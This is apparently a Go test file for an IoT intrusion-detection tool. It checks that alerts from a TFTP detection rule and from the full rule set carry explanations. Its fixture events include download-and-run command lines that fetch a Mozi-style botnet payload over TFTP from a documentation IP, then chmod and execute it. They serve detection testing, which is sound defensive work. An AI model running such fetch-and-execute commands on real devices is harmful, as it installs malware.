package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-iot/vigil"
)

// alertLines decodes the NDJSON alerts of `vigil detect`'s output.
func alertLines(t *testing.T, out string) []vigil.Alert {
	t.Helper()
	var as []vigil.Alert
	for _, l := range strings.Split(out, "\n") {
		if !strings.HasPrefix(l, "{") {
			continue
		}
		var a vigil.Alert
		if err := json.Unmarshal([]byte(l), &a); err != nil {
			t.Fatalf("%v: %s", err, l)
		}
		as = append(as, a)
	}
	return as
}

// TestDetectExplains: every alert `vigil detect` prints carries its
// explanation as vigil serve stores it: with --rules (the offline
// stream), the rule, the values that matched and an excerpt of the event
// line, for flat Sigma-style lines and for vigil.Event lines; without
// --rules (the whole set), every alert but the learned baseline's (which
// explains in its fields). --no-explain leaves them out of plain matches.
func TestDetectExplains(t *testing.T) {
	dir := t.TempDir()
	rule := "title: TFTP fetch\nid: 77777777-7777-4777-8777-777777777777\nlevel: high\nfields: [User]\n" +
		"logsource: {product: linux, category: process_creation}\n" +
		"detection:\n  sel: {CommandLine|contains: tftp}\n  condition: sel\n"
	os.WriteFile(filepath.Join(dir, "tftp.yml"), []byte(rule), 0o600)
	lines := `{"logsource.product":"linux","logsource.category":"process_creation","CommandLine":"tftp -g -r x.sh 203.0.113.9","User":"root","device_id":"cam-1","id":"e1","@timestamp":"2026-11-20T10:00:00Z"}
{"time":"2026-11-20T10:00:01Z","device_id":"cam-2","kind":"process","action":"exec","fields":{"process.command_line":"busybox tftp -g 203.0.113.9","user.name":"admin"}}
`
	events := filepath.Join(dir, "events.jsonl")
	os.WriteFile(events, []byte(lines), 0o600)
	out, code := run(t, "detect", "--rules", filepath.Join(dir, "tftp.yml"), "--input", events)
	as := alertLines(t, out)
	if code != 0 || len(as) != 2 {
		t.Fatalf("detect --rules: exit %d, %d alerts:\n%s", code, len(as), out)
	}
	for i, want := range []struct{ value, evField, evValue string }{
		{"tftp -g -r x.sh 203.0.113.9", "User", "root"},
		{"busybox tftp -g 203.0.113.9", "user.name", "admin"},
	} {
		x := as[i].Explanation
		if x == nil || x.Rule == nil || x.Rule.Condition != "sel" || len(x.Matches) != 1 || x.Matches[0].Value != want.value ||
			x.Matches[0].Pattern != "contains: tftp" || len(x.Evidence) != 1 || x.Evidence[0].Fields[want.evField] != want.evValue {
			b, _ := json.Marshal(x)
			t.Errorf("alert %d: explanation %s, want the match %q and %s=%q in the evidence", i, b, want.value, want.evField, want.evValue)
		}
	}
	if as[0].Explanation != nil && (as[0].Explanation.Evidence[0].EventID != "e1" || as[0].Explanation.Evidence[0].DeviceID != "cam-1") {
		t.Errorf("excerpt of line 1: %+v", as[0].Explanation.Evidence[0])
	}
	out, _ = run(t, "detect", "--rules", filepath.Join(dir, "tftp.yml"), "--input", events, "--no-explain")
	for _, a := range alertLines(t, out) {
		if a.Explanation != nil {
			t.Errorf("--no-explain: an explanation: %+v", a.Explanation)
		}
	}

	// The whole set: threshold, pack and intel alerts all explained.
	var b strings.Builder
	for i := range 6 {
		fmt.Fprintf(&b, `{"time":"2026-11-20T10:00:0%dZ","device_id":"cam-1","kind":"auth","action":"login","outcome":"failure","fields":{"user.name":"admin"}}`+"\n", i)
	}
	b.WriteString(`{"time":"2026-11-20T10:00:09Z","device_id":"cam-1","kind":"process","action":"exec","fields":{"process.executable":"/tmp/.x/tftp","process.command_line":"cd /tmp; tftp -g -r mozi.m 203.0.113.9; chmod 777 mozi.m; ./mozi.m"}}` + "\n")
	os.WriteFile(events, []byte(b.String()), 0o600)
	out, code = run(t, "detect", "--input", events)
	as = alertLines(t, out)
	if code != 0 || len(as) < 2 {
		t.Fatalf("detect: exit %d, %d alerts:\n%s", code, len(as), out)
	}
	for _, a := range as {
		if a.Detector != "baseline" && (a.Explanation == nil || a.Explanation.Rule == nil && a.Explanation.Indicator == nil) {
			t.Errorf("alert of %s %s without explanation", a.Detector, a.RuleID)
		}
	}
}
